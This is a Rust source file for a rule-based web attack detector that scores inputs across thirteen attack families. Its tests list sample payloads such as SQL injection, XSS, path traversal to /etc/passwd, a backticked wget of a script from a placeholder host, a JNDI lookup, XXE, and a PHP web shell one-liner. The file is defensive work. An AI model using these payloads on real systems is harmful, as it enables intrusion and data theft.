//! What is an attack by rules that people wrote: the plain twin of the learner, and a floor below it.

use aho_corasick::{AhoCorasick, MatchKind};

use super::normal::Normal;

#[path = "rules/patterns.rs"]
mod patterns;

/// Points of a family that make a hit.
pub const HIT: u32 = 3;

/// Bytes in which hints belong together, and how far on the next such stretch begins.
const NEAR: usize = 512;
const STEP: usize = 448;

/// Patterns of thirteen families of attacks, written from what is publicly known of them (OWASP's pages on each family, the
/// manuals of the databases, shells and template engines): a pattern alone is a hit, or a hint that makes one with others.
///
/// A match costs O(n) whatever is in the text: one pass of Aho and Corasick ("Efficient string matching", CACM 1975), and
/// looks around each match. Blind spot: an attack without a word or sign that is here.
///
/// ```
/// use defend::intruder::{Normal, Rules};
///
/// let rules = Rules::new();
/// assert_eq!(rules.hits(&Normal::new(b"1%27%20OR/**/1=1--")), ["sqli"]);
/// assert!(rules.hits(&Normal::new("O'Brien and sons, select committee".as_bytes())).is_empty());
/// ```
#[derive(Debug, Clone)]
pub struct Rules {
    /// Nothing where the patterns could not be compiled; a test says that they can.
    patterns: Option<AhoCorasick>,
}

impl Default for Rules {
    fn default() -> Self {
        Self::new()
    }
}

/// Points by family, in the order of [`FAMILIES`].
pub type Points = [u32; FAMILIES.len()];

/// The families that rules know.
pub const FAMILIES: [&str; 13] = [
    "sqli",
    "xss",
    "traversal",
    "command",
    "template",
    "ldap",
    "xpath",
    "nosql",
    "xml",
    "crlf",
    "code",
    "probe",
    "scanner",
];

impl Rules {
    /// Compiles them: some milliseconds, about 200 KB.
    pub fn new() -> Self {
        let words = patterns::PATTERNS.iter().map(|(_, _, word)| *word);
        Self { patterns: AhoCorasick::builder().match_kind(MatchKind::Standard).build(words).ok() }
    }

    /// The families of attacks that the text is hit by, at [`HIT`] points or more.
    pub fn hits(&self, text: &Normal) -> Vec<&'static str> {
        let points = self.points(text);
        FAMILIES.iter().zip(points).filter(|(_, points)| *points >= HIT).map(|(family, _)| *family).collect()
    }

    /// Points of the family that has most. [`HIT`] or more is a hit.
    pub fn score(&self, text: &Normal) -> u32 {
        self.points(text).into_iter().max().unwrap_or(0)
    }

    /// Points of each family. A pattern counts once in 512 bytes: hints that stand further apart do not belong together.
    pub fn points(&self, text: &Normal) -> Points {
        let squeezed = squeezed(text.text());
        let mut points = [0; FAMILIES.len()];
        let last = squeezed.len().saturating_sub(NEAR).div_ceil(STEP);
        for begin in (0..=last).map(|n| n * STEP) {
            let near = squeezed.get(begin..squeezed.len().min(begin + NEAR)).unwrap_or_default();
            points.iter_mut().zip(self.points_of(near)).for_each(|(most, points)| *most = points.max(*most));
        }
        // A header's name is one only where a line begins; and a path to probe for is one where a path is.
        if !text.evasion().line {
            clear(&mut points, CRLF);
        }
        if !squeezed.starts_with(b"/") {
            clear(&mut points, PROBE);
        } else if squeezed.ends_with(b"~") {
            add(&mut points, PROBE, HIT);
        }
        if text.evasion().overlong {
            add(&mut points, TRAVERSAL, 2);
        }
        points
    }

    /// Points of what stands together.
    fn points_of(&self, squeezed: &[u8]) -> Points {
        let mut points = [0; FAMILIES.len()];
        let mut seen = [false; patterns::COUNT];
        for found in self.patterns.iter().flat_map(|patterns| patterns.find_overlapping_iter(squeezed)) {
            let place = found.pattern().as_usize();
            let (Some((family, worth, word)), Some(seen)) = (patterns::PATTERNS.get(place), seen.get_mut(place)) else {
                continue;
            };
            if !*seen && stands_alone(squeezed, found.start(), found.end(), word.as_bytes()) {
                *seen = true;
                add(&mut points, *family as usize, *worth);
            }
        }
        looks(squeezed, &mut points);
        points
    }
}

fn add(points: &mut Points, family: usize, worth: u32) {
    if let Some(points) = points.get_mut(family) {
        *points += worth;
    }
}

fn clear(points: &mut Points, family: usize) {
    if let Some(points) = points.get_mut(family) {
        *points = 0;
    }
}

const SQLI: usize = 0;
const XSS: usize = 1;
const TRAVERSAL: usize = 2;
const COMMAND: usize = 3;
const LDAP: usize = 5;
const CRLF: usize = 9;
const PROBE: usize = 11;

/// Blanks beside signs are left out: an interpreter does not need them.
fn squeezed(text: &[u8]) -> Vec<u8> {
    let mut out: Vec<u8> = Vec::with_capacity(text.len());
    for (at, byte) in text.iter().enumerate() {
        let between =
            out.last().is_some_and(|byte| is_word(*byte)) && text.get(at + 1).is_some_and(|byte| is_word(*byte));
        if *byte != b' ' || between {
            out.push(*byte);
        }
    }
    out
}

fn is_word(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

/// Whether a pattern that begins or ends with a letter does so where a word does.
fn stands_alone(text: &[u8], start: usize, end: usize, word: &[u8]) -> bool {
    let before = start.checked_sub(1).and_then(|place| text.get(place)).is_some_and(|byte| is_word(*byte));
    let after = text.get(end).is_some_and(|byte| is_word(*byte));
    let begins = word.first().is_some_and(|byte| is_word(*byte));
    let ends = word.last().is_some_and(|byte| is_word(*byte));
    !(before && begins || after && ends)
}

/// What no fixed words tell. Each counts once.
fn looks(text: &[u8], points: &mut Points) {
    let mut seen = [false; 8];
    let mut once = |place: usize, family: usize, worth: u32| {
        if let Some(seen) = seen.get_mut(place)
            && !std::mem::replace(seen, true)
        {
            add(points, family, worth);
        }
    };
    for (at, byte) in text.iter().enumerate() {
        let rest = text.get(at..).unwrap_or_default();
        match byte {
            b'=' if is_truism(text, at) => once(0, SQLI, HIT),
            b's' if follows(text, at, rest, b"select", b"from") => once(1, SQLI, 2),
            b'o' if is_handler(text, at, rest) => once(2, XSS, 2),
            b'\'' | b'"' if ends_statement(text, at) => once(3, SQLI, HIT),
            b'.' if at == 0 && climbs(rest) >= 3 => once(4, TRAVERSAL, 1),
            b'\\' if rest.starts_with(b"\\..\\..") => once(5, TRAVERSAL, 1),
            b'$' if rest.starts_with(b"$(") => once(6, COMMAND, 2),
            b')' if rest.starts_with(b")(") && text.contains(&b'=') && text.contains(&b'*') => once(7, LDAP, 2),
            _ => {}
        }
    }
}

/// `1=1`, `'a'='a` after a word that asks for more.
fn is_truism(text: &[u8], at: usize) -> bool {
    let left = text.get(..at).unwrap_or_default();
    let right = text.get(at + 1..).unwrap_or_default();
    let quote = |byte: &u8| matches!(byte, b'\'' | b'"' | b'(' | b')' | b'%' | b'`');
    let left_end = left.len() - left.iter().rev().take(3).take_while(|byte| quote(byte)).count();
    let left_word = left.get(..left_end).unwrap_or_default();
    let length = left_word.iter().rev().take(32).take_while(|byte| is_word(**byte)).count();
    let (before, left_word) = left_word.split_at(left_end - length);
    let skip = right.iter().take(3).take_while(|byte| quote(byte)).count();
    let right_word = right.get(skip..).unwrap_or_default();
    let right_word =
        right_word.get(..right_word.iter().take(32).take_while(|byte| is_word(**byte)).count()).unwrap_or_default();
    let quoted = left_end < left.len() || skip > 0;
    let numbers = left_word.iter().chain(right_word).all(u8::is_ascii_digit);
    // Both sides empty are `''=''`.
    let alike = left_word == right_word && (quoted || numbers && length > 0);
    let asks = before.get(before.len().saturating_sub(10)..).unwrap_or_default();
    let asked = [&b"or"[..], b"and", b"||", b"&&", b"where", b"having", b"xor", b"not"]
        .iter()
        .any(|word| asks.windows(word.len()).any(|other| other == *word));
    alike && asked
}

/// A word, and another within a hundred bytes after it.
fn follows(text: &[u8], at: usize, rest: &[u8], word: &[u8], second: &[u8]) -> bool {
    if !rest.starts_with(word) || !stands_alone(text, at, at + word.len(), word) {
        return false;
    }
    let near = rest.get(..rest.len().min(100)).unwrap_or_default();
    near.windows(second.len()).any(|window| window == second)
}

/// `on…=` inside of a tag, or after a quote that could end an attribute.
fn is_handler(text: &[u8], at: usize, rest: &[u8]) -> bool {
    if !rest.starts_with(b"on") || !stands_alone(text, at, at, b"o") {
        return false;
    }
    let length = rest.iter().take(22).take_while(|byte| byte.is_ascii_lowercase()).count();
    let before = text.get(..at).unwrap_or_default();
    (5..=21).contains(&length)
        && rest.get(length) == Some(&b'=')
        && before.iter().any(|byte| matches!(byte, b'<' | b'"' | b'\'' | b'`'))
}

/// A quote, and then `--`, `#` or `;` with nothing before it but brackets: the rest of the statement is cut off.
fn ends_statement(text: &[u8], at: usize) -> bool {
    let rest = text.get(at + 1..).unwrap_or_default();
    let brackets = rest.iter().take(6).take_while(|byte| **byte == b')').count();
    let rest = rest.get(brackets..).unwrap_or_default();
    let cut = rest.starts_with(b"--") || rest == b"#" || rest.starts_with(b"/*");
    cut && text.iter().filter(|byte| Some(*byte) == text.get(at)).count() % 2 == 1
}

/// How many steps up a path begins with.
fn climbs(path: &[u8]) -> usize {
    path.chunks(3).take_while(|step| matches!(step, [b'.', b'.', b'/' | b'\\'])).count()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hits(text: &str) -> Vec<&'static str> {
        Rules::new().hits(&Normal::new(text.as_bytes()))
    }

    #[test]
    fn each_family_is_hit() {
        let cases = [
            ("sqli", "1' UnIoN/**/AlL SeLeCt null,null-- -"),
            ("sqli", "x' or 'a'='a"),
            ("sqli", "1;waitfor delay '0:0:5'--"),
            ("sqli", "admin'--"),
            ("xss", "%3Cscript%3Ealert(1)%3C/script%3E"),
            ("xss", "\"><img src=x onerror=alert(1)>"),
            ("xss", "javascript:alert(document.cookie)"),
            ("traversal", "../../../../etc/passwd"),
            ("traversal", "..%252f..%252f..%252fwindows/win.ini"),
            ("command", "; cat /etc/passwd"),
            ("command", "`wget http://x.example/a.sh`"),
            ("command", "| whoami"),
            ("template", "{{7*7}}"),
            ("template", "${jndi:ldap://x.example/a}"),
            ("ldap", "*)(uid=*))(|(uid=*"),
            ("xpath", "' or count(//user)=1 or 'a'='b"),
            ("nosql", "{\"$ne\": null, \"$gt\": \"\"}"),
            ("xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>"),
            ("crlf", "x%0d%0aSet-Cookie: a=b"),
            ("code", "<?php system($_GET['c']); ?>"),
            ("probe", "/.git/config"),
        ];
        for (family, text) in cases {
            assert!(hits(text).contains(&family), "{family}: {text}: {:?}", hits(text));
        }
        assert!(Rules::new().patterns.is_some());
    }

    #[test]
    fn ordinary_text_is_not_hit() {
        for text in super::super::tests::ORDINARY {
            assert!(hits(text).is_empty(), "{text}: {:?}", hits(text));
        }
    }
}
